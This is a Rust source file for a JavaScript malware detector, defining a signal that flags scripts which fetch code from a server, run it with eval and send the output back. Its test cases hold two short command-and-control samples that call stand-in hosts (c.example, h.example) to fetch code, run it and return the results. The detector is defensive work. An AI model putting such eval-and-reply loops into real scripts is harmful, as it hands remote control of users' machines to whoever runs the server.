//! `orders-run-and-answered`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "orders-run-and-answered",
    description: "The script asks a server for code repeatedly, runs it and sends the output back.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::Eval, Atom::FunctionOfText, Atom::ValueRun])],
    within: 0,
    only_if: Some(answers),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "setInterval(function(){fetch('https://c.example/next').then(r=>r.json()).then(j=>{var out=eval(j.code);fetch('https://c.example/out',{method:'POST',body:JSON.stringify({id:j.id,out:out})})})},500)",
            "var s=new WebSocket('wss://h.example/s');s.onmessage=function(e){var r;try{r=eval(e.data)}catch(x){r=x}s.send(String(r))}",
        ],
        without: &[
            "setInterval(function(){fetch('/status').then(r=>r.json()).then(j=>{fetch('/seen',{method:'POST',body:JSON.stringify({id:j.id})})})},500)",
            "fetch('/page').then(r=>r.text()).then(t=>{var f=eval(t);f()})",
        ],
    },
};

/// Whether what running a text gives is kept and handed to something that sends or to a function of the script.
fn answers(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 200);
    // What a socket says comes again and again.
    let again = [Atom::Repeat, Atom::Delay, Atom::EndlessLoop, Atom::Socket];
    let asked = [Atom::AnswerBody, Atom::MessageBody, Atom::AnswerHanded];
    let sent = [Atom::Post, Atom::PostMethod, Atom::Socket, Atom::SentAbroad];
    if !near.has_fact(&again) || !near.has_fact(&asked) || !near.has_fact(&sent) {
        return false;
    }
    if near.has_fact(&[Atom::Socket]) && runs_list(near) {
        return true;
    }
    near.words(&["eval", "Function", "constructor", "AsyncFunction"]).any(|at| {
        if !near.is(at + 1, b'(') && !near.is(at + 2, b'(') {
            return false;
        }
        // `result = eval(…)`, `out = await new (…constructor)(…)(…)`
        let from = at.saturating_sub(if near.word(at) == "constructor" { 22 } else { 4 });
        let assigned = (from..at).rev().find(|at| near.is(*at, b'='));
        let Some(name) = assigned.filter(|at| *at > 0).map(|at| near.before(at, 1)) else {
            return false;
        };
        if name.len() < 2 && near.kind(at) != Some(Kind::Name) || name.is_empty() {
            return false;
        }
        near.among(at + 2..at + 90).places().any(|used| {
            near.kind(used) == Some(Kind::Name)
                && near.word(used) == name
                && (used.saturating_sub(16)..used)
                    .any(|at| SENDS.contains(&near.word(at)) && near.is(at + 1, b'('))
        })
    })
}

/// Whether each part of a list that a socket gave is run, and the socket is written to.
fn runs_list(near: Near<'_>) -> bool {
    let run = near.words(&["eval"]).any(|at| {
        let part = at + 2..at + 9;
        near.is(at + 1, b'(')
            && near.kind(at + 2) == Some(Kind::Name)
            && part.clone().any(|at| near.is(at, b'['))
            && (at.saturating_sub(40)..at).any(|at| near.word(at) == "for")
    });
    run && near.words(&["send"]).any(|at| near.is(at + 1, b'(') && near.word(at + 2) == "JSON")
}

const SENDS: &[&str] = &["send", "fetch", "post", "emit", "sendBeacon", "stringify", "String", "btoa"];
